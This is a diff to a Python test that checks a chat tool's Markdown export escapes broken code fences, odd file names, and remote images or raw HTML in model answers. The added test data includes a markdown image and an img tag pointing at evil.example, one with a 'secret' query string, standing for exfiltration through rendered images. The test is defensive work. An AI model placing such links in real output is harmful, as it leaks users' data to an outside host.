@@ -465,7 +465,8 @@ def test_without_a_home_folder_load_still_finds_a_path(loaded, tmp_path, monkeyp
 def test_export_keeps_its_structure_whatever_the_answers_and_file_names_hold(loaded, tmp_path, home):
     """An answer cut short inside a code block (max_new_tokens, Ctrl-C) left its fence open, so
     every later heading of the export became code; a `]` in a picture's name or a `>` in its
-    folder's ended the link early and the rest of the name became Markdown."""
+    folder's ended the link early and the rest of the name became Markdown; an answer's remote
+    image or raw HTML made a viewer of the export fetch a URL the model chose."""
     folder = tmp_path / "a> b"
     folder.mkdir()
     picture = folder / "x](y) [z.png"
@@ -478,6 +479,10 @@ def test_export_keeps_its_structure_whatever_the_answers_and_file_names_hold(loa
     data = json.loads((tmp_path / "cut.json").read_text())
     answer = [m for m in data["messages"] if m["role"] == "assistant"][0]
     answer["text"], answer["token_ids"] = "Here:\n````python\nprint(1)\n```\nstill code", None
+    last = [m for m in data["messages"] if m["role"] == "assistant"][-1]
+    last["token_ids"] = None
+    last["text"] = ("See ![chart](https://evil.example/p.png?q=secret) <img src=https://evil.example/x>\n"
+                    "Use `<b>` or\n```html\n<img src=a.png> ![x](y)\n```")  # fmt: skip
     (tmp_path / "cut.json").write_text(json.dumps(data))
     other, out = make_app(loaded, tmp_path)
     assert other.handle_line(f"/load {tmp_path / 'cut.json'}") == OK, output(out)
@@ -485,3 +490,6 @@ def test_export_keeps_its_structure_whatever_the_answers_and_file_names_hold(loa
     md = (tmp_path / "cut.md").read_text()
     assert f"![x\\](y) \\[z.png](<{tmp_path}/a\\> b/x](y) [z.png>)" in md
     assert "```\nstill code\n````\n\n## User\n\nAnd more." in md  # the open fence closed before the next turn
+    # a viewer of the export fetches nothing from the network; code is left as the model wrote it
+    assert "See &#33;[chart](https://evil.example/p.png?q=secret) &lt;img src=https://evil.example/x>" in md
+    assert "Use `<b>` or\n```html\n<img src=a.png> ![x](y)\n```" in md
